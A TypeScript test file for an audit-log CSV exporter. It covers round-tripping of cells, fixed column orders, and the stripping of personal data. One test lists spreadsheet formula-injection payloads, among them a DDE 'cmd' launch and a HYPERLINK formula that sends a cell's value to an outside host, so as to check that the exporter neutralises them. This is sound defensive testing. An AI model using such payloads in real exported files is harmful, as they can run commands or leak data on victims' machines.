import fc from 'fast-check'
import t from 'tap'
import { csvLines } from '../../../server/audit/formats/csv.js'
import { EVENT_COLUMNS, ISSUANCE_COLUMNS } from '../../../server/audit/formats/csv-columns.js'
import { eventWithoutPersonal } from '../../../server/audit/formats/personal.js'
import { parseCsv } from './parse-csv.js'

async function textOf(
  rows: readonly (readonly (string | number | null)[])[],
  width: number,
): Promise<string> {
  const columns = Array.from(
    { length: width },
    (_, n) => [`c${n}`, (row: (typeof rows)[number]) => row[n]] as const,
  )
  let text = ''
  for await (const line of csvLines(columns, each(rows))) text += line
  return text
}

async function* each<T>(rows: readonly T[]): AsyncGenerator<T> {
  yield* rows
}

const cell = fc.oneof(
  fc.string(),
  fc.string({
    unit: fc.constantFrom('"', ',', '\r', '\n', "'", '=', '+', '-', '@', '\t', 'a', ' ', '＝', '—'),
  }),
  fc.integer(),
  fc.constant(null),
)

t.test('what a strict reader gets is what was recorded', async () => {
  const tables = fc
    .integer({ min: 1, max: 5 })
    .chain((width) =>
      fc.tuple(fc.constant(width), fc.array(fc.array(cell, { minLength: width, maxLength: width }))),
    )
  await fc.assert(
    fc.asyncProperty(tables, async ([width, rows]) => {
      const [header, ...parsed] = parseCsv(await textOf(rows, width))
      const back = parsed.map((row) => row.map((one) => (one.startsWith("'") ? one.slice(1) : one)))
      const wanted = rows.map((row) => row.map((one) => (one === null ? '' : String(one))))
      return header?.length === width && JSON.stringify(back) === JSON.stringify(wanted)
    }),
    { numRuns: 500 },
  )
})

t.test('no text begins a formula', async (t) => {
  for (const text of [
    '=1+1',
    "=cmd|' /C calc'!A0",
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '＝1+1',
    "'=1",
    '=HYPERLINK("http://x.invalid/"&A1,"ok")',
  ]) {
    const [, row] = parseCsv(await textOf([[text]], 1))
    t.equal(row?.[0], `'${text}`)
  }
  const [, numbers] = parseCsv(await textOf([[-1, 7, 'a=1', ' =1']], 4))
  t.strictSame(numbers, ['-1', '7', 'a=1', ' =1'], 'numbers are ours, and the middle of a text is harmless')
})

t.test('the columns are these, in this order', async (t) => {
  t.strictSame(
    EVENT_COLUMNS.map(([name]) => name).join(),
    'index,at,kind,agent,environment,tier,operator,issuance,grant,request,code,detail,role,scopes,access_key_id,expires_at,repeats,leaf_hash,personal_data,human,human_how,subject,source_ip,reason,ticket,comment,proof,key,key_of,break_glass',
  )
  t.strictSame(
    ISSUANCE_COLUMNS.map(([name]) => name).join(),
    'issuance,entry,at,state,agent,environment,tier,role,sensitivity,scopes,grant,grant_use,access_key_id,expires_at,not_after,error_code,policy_digest,personal_data,human,human_how,subject,source_ip,reason,ticket',
  )
})

t.test('personal data that was not asked for is nowhere, in old bodies either', async (t) => {
  const said = { human: 'ann', subject: 'sub', source_ip: '192.0.2.1', reason: 'why', ticket: 'T-1' }
  const body = {
    v: 1,
    index: 0,
    kind: 'issuance.intended',
    agent: 'a',
    tags: { 'writ:human': 'ann' },
    ...said,
  }
  const whole = { index: 0, leaf_hash: '00', repeats: null, personal_data: 'shown', personal: said } as const
  const old = eventWithoutPersonal({ ...whole, body })
  t.strictSame(old.body, { v: 1, index: 0, kind: 'issuance.intended', agent: 'a' })
  const { human: _human, tags: _tags, ...rest } = body
  const now = eventWithoutPersonal({ ...whole, body: { ...rest, v: 2, personal: 'hash' } })
  t.match(now, { personal: null, personal_data: 'withheld', body: { personal: 'hash' } })
})
